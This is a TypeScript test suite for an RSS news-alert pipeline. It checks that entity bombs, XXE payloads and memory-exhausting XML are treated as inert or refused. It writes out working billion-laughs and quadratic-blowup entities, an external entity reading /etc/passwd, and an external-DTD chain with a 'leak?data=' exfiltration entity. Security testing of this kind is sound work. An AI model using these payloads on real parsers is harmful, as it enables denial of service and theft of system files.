// Hostile XML served on loopback and polled through the real pipeline: entity bombs and external entities stay inert
// text, nothing is fetched or read on their behalf, and documents built to exhaust the parser's memory are refused.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { FileStateStore } from '../../lambda/adapters/file-state-store';
import { formatConsole, formatEmail, formatSms, formatSubject } from '../../lambda/core/format';
import { MAX_ELEMENT_DEPTH, MAX_ELEMENTS } from '../../lambda/core/parse';
import type { FeedConfig } from '../../lambda/core/types';
import { type FeedOutcome, pollFeeds } from '../../lambda/pipeline';
import { FeedServer } from '../support/feed-server';
import { runTsChild } from '../support/node-child';
import { pollPorts } from '../support/poll-ports';
import { CapturingSink, ManualClock, MINUTE, newsFeed, pollOptions, RSS_HEADERS, T0, testFeedSource } from './harness';
import type { PollJob, PollReport } from './poll-child';

const MB = 1024 * 1024;

/** An RSS document with a DOCTYPE, one Krebs item whose title and description carry `reference`. */
function withDoctype(name: string, doctype: string, reference: string): string {
  const tokens = ['a', 'b', 'c', 'd', 'e', 'f'].map((letter) => `${name}${letter}`).join(' ');
  return `<?xml version="1.0" encoding="utf-8"?>
${doctype}
<rss version="2.0"><channel><title>${reference}</title>
<item><title>Christopher Krebs ${tokens} ${reference}</title><link>https://news.example.com/${name}</link>
<guid>urn:test:${name}</guid><description>${reference}</description>
<pubDate>${new Date(T0 - MINUTE).toUTCString()}</pubDate></item></channel></rss>`;
}

const lol = (level: number) => `&lol${level};`.repeat(10);
const BILLION_LAUGHS = withDoctype(
  'laughs',
  `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 8 }, (_, i) => `<!ENTITY lol${i + 2} "${i === 0 ? '&lol;'.repeat(10) : lol(i + 1)}">`).join('')}]>`,
  '&lol9;',
);
const QUADRATIC = withDoctype(
  'quadratic',
  `<!DOCTYPE q [<!ENTITY big "${'x'.repeat(100_000)}">]>`,
  '&big;'.repeat(5_000),
);
const XXE_FILE = withDoctype('xxefile', '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;');
const xxeRemote = (origin: string) =>
  withDoctype(
    'xxeremote',
    `<!DOCTYPE r SYSTEM "${origin}/external.dtd" [<!ENTITY % remote SYSTEM "${origin}/evil.dtd"> %remote; <!ENTITY leak SYSTEM "${origin}/leak?data=x">]>`,
    '&leak;',
  );
const HOSTILE = ['/laughs', '/quadratic', '/xxe-file', '/xxe-remote'];

/** Lines of the machine's /etc/passwd (what an external entity would have read), or a stand-in where there is none. */
function passwdLines(): string[] {
  try {
    return readFileSync('/etc/passwd', 'utf8')
      .split('\n')
      .filter((line) => line.includes(':'));
  } catch {
    return ['root:x:0:0:'];
  }
}

describe('entity bombs and external entities', () => {
  let server: FeedServer;
  let stateDir: string;
  let outcomes: Map<string, FeedOutcome>;
  let heapGrowth: number;
  const sink = new CapturingSink();

  beforeAll(async () => {
    server = await FeedServer.start();
    server
      .route('/laughs', { headers: RSS_HEADERS, body: BILLION_LAUGHS })
      .route('/quadratic', { headers: RSS_HEADERS, body: QUADRATIC })
      .route('/xxe-file', { headers: RSS_HEADERS, body: XXE_FILE })
      .route('/xxe-remote', { headers: RSS_HEADERS, body: xxeRemote(server.origin) })
      .route('/evil.dtd', { body: '<!ENTITY % all "<!ENTITY send SYSTEM \'http://127.0.0.1:1/?x\'>"> %all;' })
      .route('/healthy', { headers: RSS_HEADERS, body: newsFeed('hostilehealthy', 4, 1).body });
    stateDir = mkdtempSync(path.join(tmpdir(), 'news-alerts-hostile-'));
    const feeds: FeedConfig[] = [...HOSTILE, '/healthy'].map((feedPath) => ({
      url: server.url(feedPath),
      name: feedPath.slice(1),
    }));
    const ports = pollPorts({
      source: testFeedSource(),
      state: new FileStateStore(path.join(stateDir, 'state.json')),
      sink,
      clock: new ManualClock(),
    });
    const heapBefore = process.memoryUsage().heapUsed;
    const results = await pollFeeds(feeds, ports, pollOptions());
    heapGrowth = process.memoryUsage().heapUsed - heapBefore;
    outcomes = new Map(results.map((outcome) => [new URL(outcome.url).pathname, outcome]));
  }, 60_000);

  afterAll(async () => {
    await server.close();
    rmSync(stateDir, { recursive: true, force: true });
  });

  it('every hostile feed is read as a plain feed: its item alerts with the entity reference as literal text', () => {
    for (const feedPath of HOSTILE) expect(outcomes.get(feedPath)).toMatchObject({ status: 'ok', failedAlerts: 0 });
    const titles = new Map(sink.published.map((alert) => [new URL(alert.link ?? '').pathname.slice(1), alert.title]));
    expect(titles.get('laughs')).toMatch(/^Christopher Krebs laughsa .* laughsf &lol9;$/);
    expect(titles.get('xxefile')).toMatch(/^Christopher Krebs xxefilea .* xxefilef &xxe;$/);
    expect(titles.get('xxeremote')).toMatch(/^Christopher Krebs xxeremotea .* xxeremotef &leak;$/);
    // 5,000 references to a 100 kB entity would be 500 MB expanded; the title is capped at 500 characters.
    expect(titles.get('quadratic')).toMatch(/^Christopher Krebs quadratica .* quadraticf &big;&big;/);
    expect(Math.max(...[...titles.values()].map((title) => title.length))).toBeLessThanOrEqual(500);
    expect(outcomes.get('/healthy')).toMatchObject({ status: 'ok' });
    expect(sink.published.filter((alert) => alert.feed === 'healthy')).toHaveLength(4);
  });

  it('expands nothing: the heap grows by megabytes, not the gigabytes the entities describe', () => {
    // Loose on purpose (other suites share the process): billion laughs alone would need about 3 GB.
    expect(heapGrowth).toBeLessThan(64 * MB);
  });

  it('fetches no external DTD or entity on the feed server', () => {
    for (const target of ['/external.dtd', '/evil.dtd', '/leak']) expect(server.requestsTo(target)).toEqual([]);
    expect(server.requests.map((request) => request.path).sort()).toEqual([...HOSTILE, '/healthy'].sort());
  });

  it('no line of /etc/passwd reaches an alert, any formatted message, a feed outcome or the state file', () => {
    const everything = [
      JSON.stringify(sink.published),
      ...sink.published.flatMap((alert) => [
        formatSubject(alert),
        formatSms(alert),
        formatEmail(alert),
        formatConsole(alert),
      ]),
      JSON.stringify([...outcomes.values()]),
      readFileSync(path.join(stateDir, 'state.json'), 'utf8'),
    ].join('\n');
    for (const line of passwdLines()) expect(everything).not.toContain(line);
    expect(everything).not.toMatch(/root:[^:]*:0:0:/);
  });
});

describe('documents built to exhaust the parser (run in a process with a 160 MB heap)', () => {
  let server: FeedServer;

  beforeAll(async () => {
    server = await FeedServer.start();
  });

  afterAll(async () => {
    await server.close();
  });

  it('are refused as not a feed, without running out of memory, while a healthy feed alerts', async () => {
    const bodies = {
      // 7 MB nested a million deep: the parsers took 900 MB and recursed until the stack overflowed.
      '/nested': `<rss version="2.0"><channel><item><title>Christopher Krebs</title><description>${'<a>'.repeat(1_000_000)}x${'</a>'.repeat(1_000_000)}</description></item></channel></rss>`,
      // 9 MB of tags never closed: 2.5 GB and 20 s before.
      '/unclosed': `<rss version="2.0"><channel><item><title>Christopher Krebs</title>${'<a>'.repeat(3_000_000)}`,
      // 9 MB of small well-formed elements, shallow: 350 MB before.
      '/dense': `<rss version="2.0"><channel><item><title>Christopher Krebs</title>${'<a><b>x</b></a>'.repeat(600_000)}</item></channel></rss>`,
    };
    for (const [route, body] of Object.entries(bodies)) server.route(route, { headers: RSS_HEADERS, body });
    server.route('/healthy', { headers: RSS_HEADERS, body: newsFeed('densehealthy', 3, 1).body });
    const job: PollJob = {
      feeds: [...Object.keys(bodies), '/healthy'].map((route) => ({ url: server.url(route), name: route })),
      cycles: 1,
      now: T0,
      source: { maxBytes: 10 * MB, timeoutMs: 30_000, idleTimeoutMs: 20_000 },
      concurrency: 1,
    };
    const child = await runTsChild(path.join(__dirname, 'poll-child.ts'), {
      args: [JSON.stringify(job)],
      nodeArgs: ['--max-old-space-size=160'],
    });
    expect({ code: child.code, stderr: child.stderr }).toEqual({ code: 0, stderr: '' });
    const report = JSON.parse(child.stdout) as PollReport;
    const outcome = (route: string) => report.cycles[0]?.outcomes.find((entry) => entry.url === server.url(route));
    for (const route of ['/nested', '/unclosed']) {
      expect(outcome(route)).toMatchObject({
        status: 'error',
        errorCode: 'parse',
        error: `parse: elements nested over ${MAX_ELEMENT_DEPTH} deep: not a feed`,
      });
    }
    expect(outcome('/dense')).toMatchObject({
      status: 'error',
      error: `parse: over ${MAX_ELEMENTS} elements: not a feed`,
    });
    expect(outcome('/healthy')).toMatchObject({ status: 'ok', alerts: 3 });
    expect(report.unhandledRejections).toEqual([]);
  }, 120_000);
});
